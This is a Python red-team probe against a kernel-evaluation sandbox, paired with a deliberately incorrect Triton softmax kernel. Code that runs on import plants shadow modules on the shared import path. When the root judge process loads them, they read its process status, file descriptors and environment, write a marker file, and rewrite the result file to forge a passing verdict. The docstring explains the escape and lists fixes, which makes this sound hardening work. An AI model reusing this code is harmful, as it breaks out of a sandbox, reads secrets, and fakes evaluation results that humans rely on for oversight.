"""Red team 20 escape probe: the judge imports modules the candidate planted.

Run behind the allow-list only (`evaluate(..., refuse_imports=False)`), as the earlier
escape probes are; the surroundings and introspection readers stay on.

The judge (the jail's PID 1) and the worker are one `python -m
kernelkb.optimizer.sandbox.worker` forked, so they share `sys.path`, whose first entry is
the jail's `home` (the start folder `-m` puts first): mode 1777, writable by the worker's
uid. At its import this module forks a fresh Python (`/bin/sh`, then the interpreter named
in `/proc/1/cmdline`; no reader of the worker's sees its file writes) that writes one
shadow `<name>.py` into `home` for every top-level module name on the path (the standard
library's and site-packages'). A shadow, imported, loads the real module in its place, so
nothing breaks; imported in PID 1 it first runs the payload. The judge imports
`hypothesis` (and its dependencies) lazily for its property draws, after the worker has
run: the payload runs in the judge, uid 0 of the jail, CAP_KILL, holding descriptor 4 to
the runner's host file `/tmp/kernelkb_runner_*/result.json`. It reports its uid,
capabilities, descriptors and environment names on stderr, writes a marker in the jail's
/tmp, and starts a non-daemon thread that waits for the judge's final result in fd 4 and
rewrites it with `error_kind`, `error_message` and `failing_shapes` cleared.

The kernel is red team 19's `redteam19_softmax_wide_row_span_max.py` unchanged (the row
max from the first 2**18 columns), which the judge refuses on its reach shape
(`wrong_result`, 786,432 NaN). With the payload, `evaluate()` returns ok=True: the judge
logs its own `wrong_result` and the runner reads the forged file.

Why it should be refused: the judge is "the one process of an evaluation the candidate
cannot reach"; here the candidate's code runs in it and writes the verdict. Closing
routes: start the judge with `-I`/`-P` or a `sys.path` without the working folder (or
chdir to a folder the worker cannot write before the fork), import everything the judge
needs before the fork, and give the worker a home the judge never reads.
"""
import os, sys

PLANTER = r'''
import os, sys, pkgutil
home = sys.argv[1]
SHADOW = open(sys.argv[2]).read()
names = set(sys.stdlib_module_names)
for info in pkgutil.iter_modules([p for p in sys.argv[3].split(":") if p and os.path.abspath(p) != home]):
    names.add(info.name)
names -= set(sys.builtin_module_names)
names -= {"__future__", "site", "sitecustomize", "usercustomize", "encodings", "this", "antigravity"}
for name in sorted(names):
    if name.isidentifier():
        try:
            with open(os.path.join(home, name + ".py"), "x") as f:
                f.write(SHADOW)
        except OSError:
            pass
'''

SHADOW = r'''
import sys as _s, os as _o
if _o.getpid() == 1 and not _s.modules.get("_rt20_seen"):
    _s.modules["_rt20_seen"] = _s
    def _r(p):
        try:
            return open(p, "rb").read()
        except OSError as e:
            return e.strerror
    _fds = []
    for _fd in sorted(int(f) for f in _o.listdir("/proc/self/fd")):
        try:
            _fds.append((_fd, _o.readlink("/proc/self/fd/%d" % _fd)))
        except OSError as e:
            _fds.append((_fd, e.strerror))
    _st = [l for l in _r("/proc/self/status").decode().splitlines() if l.startswith(("Uid", "CapEff", "CapPrm", "NoNewPrivs", "Seccomp"))]
    _env = _r("/proc/self/environ")
    _s.stderr.write("HIJACK-JUDGE first import: %s pid=%d %s\n" % (__name__, _o.getpid(), _st))
    _s.stderr.write("HIJACK-JUDGE fds %s\n" % (_fds,))
    _s.stderr.write("HIJACK-JUDGE env names %s secret-in-env=%s\n" % (
        [e.split(b"=")[0].decode() for e in _env.split(b"\0") if e][:30], b"secret123" in _env))
    try:
        with open("/tmp/escaped_from_judge", "w") as _f:
            _f.write("judge wrote this\n")
        _s.stderr.write("HIJACK-JUDGE wrote /tmp/escaped_from_judge (the jail's /tmp)\n")
    except OSError as e:
        _s.stderr.write("HIJACK-JUDGE write /tmp: %s\n" % e.strerror)

    import json as _json
    def _forge(o):
        if isinstance(o, dict):
            if o.get("ok") is False:
                _s.stderr.write("HIJACK-JUDGE forging a verdict: %r\n" % ({k: o.get(k) for k in ("ok", "error_kind")},))
                _s.stderr.flush()
                o["ok"] = True
                for k in ("error_kind", "error_message"):
                    if k in o:
                        o[k] = None
            for v in list(o.values()):
                _forge(v)
        elif isinstance(o, list):
            for v in o:
                _forge(v)
        return o
    import threading as _t, time as _time
    def _watch():
        last = b""
        for _ in range(30000):
            try:
                data = _o.pread(4, 1 << 22, 0)
            except OSError as e:
                _s.stderr.write("HIJACK-JUDGE pread: %s\n" % e.strerror)
                return
            if data and data != last:
                last = data
                try:
                    obj = _json.loads(data)
                except ValueError:
                    _time.sleep(0.01)
                    continue
                if not (isinstance(obj, dict) and obj.get("final")):
                    _time.sleep(0.01)
                    continue
                _s.stderr.write("HIJACK-JUDGE final result.json keys %r ok=%r kind=%r\n" % (
                    sorted(obj)[:40], obj.get("ok"), obj.get("error_kind")))
                _s.stderr.write("HIJACK-JUDGE final: stage=%r failing=%r judge keys=%r\n" % (
                    obj.get("stage"), str(obj.get("failing_shapes"))[:80],
                    sorted(obj["judge"])[:30] if isinstance(obj.get("judge"), dict) else obj.get("judge")))
                if obj.get("error_kind"):
                    obj["error_kind"] = None
                    obj["error_message"] = None
                    obj["failing_shapes"] = []
                new = _json.dumps(obj).encode()
                if new != data:
                    _o.ftruncate(4, 0)
                    _o.pwrite(4, new, 0)
                    _s.stderr.write("HIJACK-JUDGE result.json rewritten: %r\n" % new[:200])
                _s.stderr.flush()
                return
            _time.sleep(0.01)
    _t.Thread(target=_watch, daemon=False).start()
    _s.stderr.flush()
import importlib.machinery as _m, importlib.util as _u
_home = _o.path.dirname(_o.path.abspath(__file__))
_path = [p for p in _s.path if _o.path.abspath(p or ".") != _home]
_spec = _m.PathFinder.find_spec(__name__, _path)
if _spec is None:
    raise ImportError(__name__)
_mod = _u.module_from_spec(_spec)
_s.modules[__name__] = _mod
_spec.loader.exec_module(_mod)
'''


PLANTER = PLANTER.replace("home = sys.argv[1]", "home = os.getcwd()").replace(
    "SHADOW = open(sys.argv[2]).read()", "SHADOW = sys.argv[1]").replace(
    'sys.argv[3].split(":")', "sys.path")


def _plant():
    pid = os.fork()
    if pid == 0:
        os.execv("/bin/sh", ["sh", "-c",
                 'exec "$(tr \'\\0\' \'\\n\' < /proc/1/cmdline | head -n 1)" -c "$0" "$1"',
                 PLANTER, SHADOW])
    os.waitpid(pid, 0)


_plant()

import functools

import torch
import triton
import triton.language as tl

BLOCK_SIZE = 0  # columns per tile; 0 = the whole row (next power of two) in one tile
NUM_WARPS = 4
NUM_STAGES = 1
ROWS_PER_PROGRAM = 1  # rows each program handles, to amortise launch for short rows
ONLINE = False  # chunked rows: one online pass for max and sum instead of two passes
LONG_ROW_BLOCK = 0  # rows of LONG_ROW_COLS+ columns: 0 = as BLOCK_SIZE says; N = long-row path
# not a search knob: on the H200 a persistent long-row grid lost (1 program an SM) or tied
# (2); kept for cards whose L2 holds more rows in flight (benchmarks/variants.py --wide 4)
LONG_ROW_PERSISTENT = 0  # long-row path: 0 = a program a row; N = N programs an SM loop over rows
L2_HINTS = False  # long-row path: keep pass 1's reads in L2 for pass 2, stream the output past it

LONG_ROW_COLS = 32768  # where the long-row path starts (not a search knob)


@triton.jit
def softmax_kernel(out_ptr, x_ptr, n_rows, n_cols, stride_x, stride_o,
                   BLOCK: tl.constexpr, SINGLE_TILE: tl.constexpr,
                   ONLINE_PASS: tl.constexpr, ROWS: tl.constexpr):
    pid = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    for r in range(ROWS):
        row = pid.to(tl.int64) * ROWS + r  # 64-bit from the program id on
        if row < n_rows:
            x_row = x_ptr + row.to(tl.int64) * stride_x
            o_row = out_ptr + row.to(tl.int64) * stride_o
            if SINGLE_TILE:
                mask = cols < n_cols
                x = tl.load(x_row + cols, mask=mask, other=-float("inf")).to(tl.float32)
                e = tl.exp(x - tl.max(x, 0))
                y = e / tl.sum(e, 0)
                tl.store(o_row + cols, y.to(out_ptr.dtype.element_ty), mask=mask)
            else:
                if ONLINE_PASS:
                    m_vec = tl.full([BLOCK], -float("inf"), tl.float32)
                    s_vec = tl.zeros([BLOCK], tl.float32)
                    for start in range(0, n_cols, BLOCK):
                        mask = start + cols < n_cols
                        x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
                        # a NaN must reach the sum (the row is NaN), so the max keeps it
                        m_new = tl.maximum(m_vec, x.to(tl.float32),
                                           propagate_nan=tl.PropagateNan.ALL)
                        # a lane that has seen only -inf adds nothing (not -inf - -inf)
                        m_safe = tl.where(m_new == -float("inf"), 0.0, m_new)
                        s_vec = s_vec * tl.exp(m_vec - m_safe) + tl.exp(x - m_safe)
                        m_vec = m_new
                    m = tl.max(m_vec, 0)
                    s = tl.sum(s_vec * tl.exp(m_vec - m), 0)
                else:
                    m_vec = tl.full([BLOCK], -float("inf"), tl.float32)
                    for start in range(0, n_cols, BLOCK):
                        mask = start + cols < n_cols
                        x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
                        m_vec = tl.maximum(m_vec, x.to(tl.float32))
                    m = tl.max(m_vec, 0)
                    s_vec = tl.zeros([BLOCK], tl.float32)
                    for start in range(0, n_cols, BLOCK):
                        mask = start + cols < n_cols
                        x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
                        s_vec += tl.exp(x.to(tl.float32) - m)
                    s = tl.sum(s_vec, 0)
                for start in range(0, n_cols, BLOCK):
                    mask = start + cols < n_cols
                    x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
                    y = tl.exp(x.to(tl.float32) - m) / s
                    tl.store(o_row + start + cols, y.to(out_ptr.dtype.element_ty), mask=mask)


@triton.jit
def softmax_long_row_kernel(out_ptr, x_ptr, n_rows, n_cols, stride_x, stride_o,
                            BLOCK: tl.constexpr, HINTS: tl.constexpr):
    # rows in BLOCK-column chunks, rows pid, pid + programs, ...: pass 1 keeps a running
    # row max and a sum rescaled when the max grows (one exp2 per element); pass 2 walks
    # the chunks backwards, so the ones pass 1 read last are re-read while still in L2
    LOG2E: tl.constexpr = 1.4426950408889634
    cols = tl.arange(0, BLOCK)
    first = tl.program_id(0).to(tl.int64)  # an int64 loop: row * stride passes 2**31
    for row in range(first, n_rows, tl.num_programs(0)):
        x_row = x_ptr + row * stride_x
        o_row = out_ptr + row * stride_o
        m = -float("inf")
        s = 0.0
        for start in range(0, n_cols, BLOCK):
            mask = start + cols < n_cols
            if HINTS:
                x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"),
                            eviction_policy="evict_last")
            else:
                x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
            x = x.to(tl.float32)
            m_new = tl.maximum(m, tl.max(x, 0))
            m_safe = tl.where(m_new == -float("inf"), 0.0, m_new)  # a chunk masked whole
            s = s * tl.exp2((m - m_safe) * LOG2E) + tl.sum(tl.exp2((x - m_safe) * LOG2E), 0)
            m = m_new
        inv = 1.0 / s
        n_chunks = tl.cdiv(n_cols, BLOCK)
        for i in range(0, n_chunks):
            start = (n_chunks.to(tl.int64) - 1 - i) * BLOCK
            mask = start + cols < n_cols
            if HINTS:
                x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"),
                            eviction_policy="evict_first")
            else:
                x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
            y = (tl.exp2((x.to(tl.float32) - m) * LOG2E) * inv).to(out_ptr.dtype.element_ty)
            if HINTS:
                tl.store(o_row + start + cols, y, mask=mask, cache_modifier=".cs")
            else:
                tl.store(o_row + start + cols, y, mask=mask)


WIDE_ROW_COLS = 1 << 18  # rows past 2**18 columns: the wide-row path
WIDE_SPAN = 1 << 18  # wide-row path: the row max is read from the row's first span only


@triton.jit
def softmax_wide_row_kernel(out_ptr, x_ptr, n_rows, n_cols, stride_x, stride_o,
                            BLOCK: tl.constexpr, SPAN: tl.constexpr):
    # rows too wide for one pass to stay in L2: the max from the first SPAN columns (one
    # read of a quarter of a 1M row), then one pass for the sum and one for the output
    cols = tl.arange(0, BLOCK)
    row = tl.program_id(0).to(tl.int64)
    x_row = x_ptr + row * stride_x
    o_row = out_ptr + row * stride_o
    m_vec = tl.full([BLOCK], -float("inf"), tl.float32)
    for start in range(0, SPAN, BLOCK):
        mask = start + cols < n_cols
        x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
        m_vec = tl.maximum(m_vec, x.to(tl.float32))
    m = tl.max(m_vec, 0)
    s_vec = tl.zeros([BLOCK], tl.float32)
    for start in range(0, n_cols, BLOCK):
        mask = start + cols < n_cols
        x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
        s_vec += tl.exp(x.to(tl.float32) - m)
    s = tl.sum(s_vec, 0)
    for start in range(0, n_cols, BLOCK):
        mask = start + cols < n_cols
        x = tl.load(x_row + start + cols, mask=mask, other=-float("inf"))
        y = tl.exp(x.to(tl.float32) - m) / s
        tl.store(o_row + start + cols, y.to(out_ptr.dtype.element_ty), mask=mask)


@functools.cache
def _sm_count(device):
    """SMs of the GPU, for the persistent long-row grid (1 in the CPU interpreter)."""
    if device.type == "cuda":
        return torch.cuda.get_device_properties(device).multi_processor_count
    return 1


def run(x):
    lead = x.shape[:-1]  # rows: one dimension, or a model's (batch, seq)
    x = x.reshape(-1, x.shape[-1]).contiguous()
    n_rows, n_cols = x.shape
    out = torch.empty_like(x)
    if n_cols > WIDE_ROW_COLS:
        softmax_wide_row_kernel[(n_rows,)](out, x, n_rows, n_cols, x.stride(0), out.stride(0),
                                           BLOCK=4096, SPAN=WIDE_SPAN, num_warps=NUM_WARPS)
        return out.view(*lead, n_cols)
    if LONG_ROW_BLOCK and n_cols >= LONG_ROW_COLS:
        programs = n_rows
        if LONG_ROW_PERSISTENT:
            programs = min(n_rows, LONG_ROW_PERSISTENT * _sm_count(x.device))
        softmax_long_row_kernel[(programs,)](out, x, n_rows, n_cols, x.stride(0), out.stride(0),
                                             BLOCK=LONG_ROW_BLOCK, HINTS=L2_HINTS,
                                             num_warps=NUM_WARPS)
        return out.view(*lead, n_cols)
    whole_row = triton.next_power_of_2(n_cols)
    block = whole_row if BLOCK_SIZE == 0 else min(BLOCK_SIZE, whole_row)
    grid = (triton.cdiv(n_rows, ROWS_PER_PROGRAM),)
    softmax_kernel[grid](out, x, n_rows, n_cols, x.stride(0), out.stride(0),
                         BLOCK=block, SINGLE_TILE=block >= n_cols, ONLINE_PASS=ONLINE,
                         ROWS=ROWS_PER_PROGRAM, num_warps=NUM_WARPS, num_stages=NUM_STAGES)
    return out.view(*lead, n_cols)
